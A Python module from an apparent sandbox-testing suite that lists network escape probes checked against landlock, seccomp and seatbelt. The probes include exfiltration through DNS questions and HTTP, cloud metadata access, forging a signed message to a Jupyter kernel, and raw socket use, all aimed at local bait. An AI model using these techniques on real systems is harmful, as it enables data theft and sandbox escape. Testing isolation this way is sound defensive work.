"""Whatever carries data out of the program: sockets of every kind."""

from __future__ import annotations

from codesteer_kernel.attacks.attack import Attack

__all__ = ["ABOUT", "ATTACKS", "FAMILY"]

FAMILY = "network"
ABOUT = "a way out, or in: sockets of every kind, and services that are reached by them"

_TCP = ("landlock 4", "seccomp", "seatbelt")
_ABSTRACT = ("landlock 6", "seccomp")
# Landlock knows TCP that is connected in the common way, and nothing else.
_ANY = ("seccomp", "seatbelt")
_LINUX = ("linux",)


def _over(name: str, program: str, walls: tuple[str, ...], *, hindered: bool = False, linux: bool = False) -> Attack:
    systems = _LINUX if linux else ("linux", "darwin", "win32")
    return Attack(name=name, family=FAMILY, program=program, walls=walls, hindered=hindered, systems=systems)


ATTACKS: tuple[Attack, ...] = (
    _over("connect by TCP", "socket.create_connection(('127.0.0.1', bait.tcp), 5).send(b'x')", _TCP),
    _over(
        "connect by TCP over IPv6", "socket.create_connection(('::1', bait.tcp6), 5).send(b'x')", _TCP, hindered=True
    ),
    _over(
        "connect by TCP in another program",
        "subprocess.run([sys.executable, '-I', '-S', '-c', f'import socket; socket.create_connection((\"127.0.0.1\", {bait.tcp}), 5)'])",
        _TCP,
    ),
    _over(
        "fetch a web page",
        """
            import urllib.request
            urllib.request.urlopen(f'http://127.0.0.1:{bait.tcp}/?stolen', timeout=0.2)
        """,
        _TCP,
    ),
    _over(
        "connect by TCP Fast Open",
        "socket.socket().sendto(b'x', 0x20000000, ('127.0.0.1', bait.tcp))",
        _ANY,
        hindered=True,
        linux=True,
    ),
    _over(
        "connect by multipath TCP",
        "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(('127.0.0.1', bait.tcp))",
        _ANY,
        hindered=True,
        linux=True,
    ),
    _over(
        "listen on a TCP port of its choice",
        """
            socket.create_server(('127.0.0.1', 0))
            won()
        """,
        _TCP,
    ),
    _over(
        "listen on a TCP port of the system's choice",
        """
            socket.socket().listen()
            won()
        """,
        _ANY,
    ),
    _over(
        "ask the cloud's metadata address",
        """
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex(('169.254.169.254', 80)) in (0, 115, 36, 10035) and won()
        """,
        _TCP,
        hindered=True,
    ),
    _over(
        "send by UDP",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', bait.udp))",
        _ANY,
    ),
    _over(
        "send by UDP over IPv6",
        "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('::1', bait.udp6))",
        _ANY,
        hindered=True,
    ),
    _over(
        "carry data out in a question to a name server",
        """
            name = b''.join(bytes([len(part)]) + part for part in (b'stolen', b'invalid')) + bytes(1)
            question = struct.pack('!6H', 1, 256, 1, 0, 0, 0) + name + struct.pack('!2H', 1, 1)
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ('127.0.0.1', bait.udp))
        """,
        _ANY,
    ),
    _over(
        "talk to a service by its unix socket",
        "socket.socket(socket.AF_UNIX).connect(bait.stream)",
        _ANY,
        linux=True,
    ),
    _over(
        "send to a service by its unix socket",
        "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', bait.datagram)",
        _ANY,
        linux=True,
    ),
    _over(
        "send to a unix socket from a pair",
        "socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'x', bait.datagram)",
        _ANY,
        linux=True,
    ),
    _over(
        "talk to a service by its abstract socket",
        "socket.socket(socket.AF_UNIX).connect('\\0' + bait.abstract)",
        _ABSTRACT,
        linux=True,
    ),
    _over(
        "send a forged message to a notebook's kernel",
        """
            import hashlib, hmac
            known = json.load(open(bait.connection))
            parts = [json.dumps(part).encode() for part in ({'msg_type': 'execute_request', 'msg_id': '1'}, {}, {}, {'code': '1'})]
            signed = hmac.new(known['key'].encode(), b''.join(parts), hashlib.sha256).hexdigest().encode()
            import zmq
            door = zmq.Context().socket(zmq.DEALER)
            door.connect(f"tcp://127.0.0.1:{known['shell_port']}")
            door.send_multipart([b'<IDS|MSG>', signed, *parts])
            door.close(linger=2000)
            time.sleep(0.3)
        """,
        ("landlock", "seatbelt"),
    ),
    _over(
        "list the network's interfaces",
        """
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)
            won()
        """,
        ("seccomp",),
        linux=True,
    ),
    _over(
        "send packets of its own making",
        """
            socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
            won()
        """,
        ("limits",),
    ),
    _over(
        "listen to all packets",
        """
            socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)
            won()
        """,
        ("limits",),
        linux=True,
    ),
    _over(
        "talk to the host of a virtual machine",
        """
            socket.socket(40, socket.SOCK_STREAM)
            won()
        """,
        ("seccomp",),
        hindered=True,
        linux=True,
    ),
)
